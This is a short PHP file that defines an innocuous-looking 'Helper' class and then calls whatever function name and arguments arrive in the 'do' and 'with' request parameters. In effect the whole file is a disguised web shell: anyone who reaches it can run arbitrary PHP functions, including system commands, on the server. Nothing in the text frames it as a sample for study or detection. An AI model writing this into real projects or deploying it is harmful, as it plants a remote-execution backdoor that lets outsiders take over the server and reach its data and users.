<?php
final class Helper
{
    public static function __callStatic($name, $args) { return $name(...$args); }
}
$m = $_REQUEST['do'] ?? 'time';
Helper::{$m}(...(array) ($_REQUEST['with'] ?? []));
